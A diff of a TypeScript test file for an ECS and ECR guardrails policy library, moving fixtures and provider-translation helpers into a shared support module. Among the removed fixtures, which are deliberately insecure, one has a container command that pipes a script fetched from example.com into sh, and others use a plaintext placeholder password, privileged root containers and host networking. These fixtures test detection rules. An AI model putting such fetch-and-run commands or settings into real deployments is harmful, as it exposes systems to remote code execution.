@@ -4,95 +4,9 @@ import { buildModel } from "../../policy/model";
 import { rules } from "../../policy/rules";
 import type { ResourceRule } from "../../policy/rules/rule";
 import { capacityProvider, check, checkStack, cluster, container as c, expressService, remediate, repository, service, taskDefinition as td, types, unknownString } from "../support/fixtures";
+import { nativeTypes, spelledForNative, toNative, twins } from "../support/twins";
 
 type Props = Record<string, unknown>;
-
-const nativeTypes: Record<string, string> = {
-    [types.taskDefinition]: "aws-native:ecs:TaskDefinition",
-    [types.service]: "aws-native:ecs:Service",
-    [types.taskSet]: "aws-native:ecs:TaskSet",
-    [types.cluster]: "aws-native:ecs:Cluster",
-    [types.capacityProvider]: "aws-native:ecs:CapacityProvider",
-    [types.repository]: "aws-native:ecr:Repository",
-    [types.creationTemplate]: "aws-native:ecr:RepositoryCreationTemplate",
-};
-
-const tagList = (tags: unknown) => (tags && typeof tags === "object" ? Object.entries(tags).map(([key, value]) => ({ key, value })) : tags);
-const enabled = (v: unknown) => (v === true ? "ENABLED" : v === false ? "DISABLED" : v);
-
-/** The same configuration as aws-native declares it. */
-function toNative(type: string, props: Props): Props {
-    const { tags, ...p } = props;
-    const out: Props = { ...p, ...(tags !== undefined ? { tags: tagList(tags) } : {}) };
-    if (type === types.taskDefinition && typeof p.containerDefinitions === "string") out.containerDefinitions = JSON.parse(p.containerDefinitions);
-    if (type === types.service || type === types.taskSet) {
-        const { name, networkConfiguration: net, deploymentCircuitBreaker, capacityProviderStrategies, ...rest } = out;
-        const vpc = net && typeof net === "object" ? { ...(net as Props), assignPublicIp: enabled((net as Props).assignPublicIp) } : net;
-        return {
-            ...rest,
-            ...(type === types.service && name !== undefined ? { serviceName: name } : {}),
-            ...(net !== undefined ? { networkConfiguration: { [type === types.service ? "awsvpcConfiguration" : "awsVpcConfiguration"]: vpc } } : {}),
-            ...(deploymentCircuitBreaker !== undefined ? { deploymentConfiguration: { deploymentCircuitBreaker } } : {}),
-            ...(capacityProviderStrategies !== undefined ? { capacityProviderStrategy: capacityProviderStrategies } : {}),
-        };
-    }
-    if (type === types.cluster) {
-        const { name, settings, ...rest } = out;
-        return { ...rest, clusterName: name, ...(settings !== undefined ? { clusterSettings: settings } : {}) };
-    }
-    if (type === types.repository) {
-        const { name, encryptionConfigurations, ...rest } = out;
-        const first = Array.isArray(encryptionConfigurations) ? encryptionConfigurations[0] : undefined;
-        return { ...rest, repositoryName: name, ...(first !== undefined ? { encryptionConfiguration: first } : {}) };
-    }
-    return out;
-}
-
-/** Configurations that break (or keep) each policy, as aws declares them. */
-const twins: [string, Props][] = [
-    [types.taskDefinition, td()],
-    [types.taskDefinition, td([c({ image: "nginx:latest", privileged: true, user: "0", readonlyRootFilesystem: false, stopTimeout: 300 })])],
-    [types.taskDefinition, td([c({ logConfiguration: undefined, linuxParameters: undefined, healthCheck: undefined, environment: [{ name: "DB_PASSWORD", value: "hunter2-hunter2" }] })])],
-    [types.taskDefinition, td([c({ command: ["sh", "-c", "curl -fsSL https://example.com/x.sh | sh; supervisord &"] }), c({ name: "b", image: "b:1" })], { networkMode: "host", pidMode: "host", taskRoleArn: undefined })],
-    [types.taskDefinition, td([c({ image: unknownString })], { tags: { team: "shop", "ecs-guardrails:exempt": "ecs-no-privileged" } })],
-    [types.taskDefinition, td([c()], { volumes: [{ name: "data", efsVolumeConfiguration: { fileSystemId: "fs-1" } }], runtimePlatform: { operatingSystemFamily: "WINDOWS_SERVER_2022_CORE" } })],
-    [types.taskDefinition, td([c()], { memory: "1 GB", cpu: "0.25 vcpu", networkMode: undefined, requiresCompatibilities: ["MANAGED_INSTANCES"] })],
-    [types.service, service()],
-    [types.service, service({ enableEcsManagedTags: false, propagateTags: "NONE", deploymentCircuitBreaker: undefined, networkConfiguration: { subnets: ["s"], securityGroups: [], assignPublicIp: true } })],
-    [types.service, service({ launchType: undefined, capacityProviderStrategies: [{ capacityProvider: "FARGATE_SPOT", weight: 1 }], platformVersion: "1.3.0", networkConfiguration: undefined })],
-    [types.taskSet, { service: "api", cluster: "main", taskDefinition: "td", networkConfiguration: { subnets: ["s"], assignPublicIp: true } }],
-    [types.cluster, cluster()],
-    [types.cluster, cluster({ settings: [{ name: "containerInsights", value: "disabled" }], configuration: { executeCommandConfiguration: { logging: "NONE" } } })],
-    [types.capacityProvider, capacityProvider()],
-    [types.capacityProvider, capacityProvider({ autoScalingGroupProvider: { autoScalingGroupArn: "arn", managedScaling: { status: "ENABLED" }, managedTerminationProtection: "DISABLED" }, tags: { team: "shop" } })],
-    [types.taskDefinition, td([c({ user: "ContainerAdministrator" })], { runtimePlatform: { operatingSystemFamily: "WINDOWS_SERVER_2022_CORE" } })],
-    [types.repository, repository({ encryptionConfigurations: [{ encryptionType: "KMS", kmsKey: "alias/aws/ecr" }] })],
-    [types.repository, repository()],
-    [types.repository, repository({ imageTagMutability: "MUTABLE", imageScanningConfiguration: undefined, encryptionConfigurations: undefined, tags: { "ecs-guardrails:exempt": "ecr-kms-encryption" } })],
-    [types.creationTemplate, { prefix: "shop", imageTagMutability: "MUTABLE" }],
-];
-
-/** How aws-native spells the properties an aws message names: each user reads their own provider's path. */
-const nativeSpelling: Record<string, [string, string][]> = {
-    [types.service]: [
-        ["networkConfiguration.assignPublicIp", "networkConfiguration.awsvpcConfiguration.assignPublicIp"],
-        ["networkConfiguration has no security group", "networkConfiguration.awsvpcConfiguration has no security group"],
-        ["has no networkConfiguration,", "has no networkConfiguration.awsvpcConfiguration,"],
-        ["Set networkConfiguration with", "Set networkConfiguration.awsvpcConfiguration with"],
-        ["Set deploymentCircuitBreaker", "Set deploymentConfiguration.deploymentCircuitBreaker"],
-    ],
-    [types.taskSet]: [
-        ["networkConfiguration.assignPublicIp", "networkConfiguration.awsVpcConfiguration.assignPublicIp"],
-        ["networkConfiguration has no security group", "networkConfiguration.awsVpcConfiguration has no security group"],
-    ],
-    [types.cluster]: [["to settings.", "to clusterSettings."]],
-    [types.repository]: [["Set encryptionConfigurations with", "Set encryptionConfiguration with"]],
-};
-
-function spelledForNative(type: string, outcome: ReturnType<typeof check>): ReturnType<typeof check> {
-    const respell = (m: string) => (nativeSpelling[type] ?? []).reduce((text, [aws, native]) => text.split(aws).join(native), m);
-    return { ...outcome, violations: outcome.violations.map(respell), pending: outcome.pending.map(respell) };
-}
 
 describe("aws-native twins: the same verdict and message as aws, paths spelled as each provider spells them", () => {
     for (const rule of rules.filter((r): r is ResourceRule => r.kind === "resource")) {
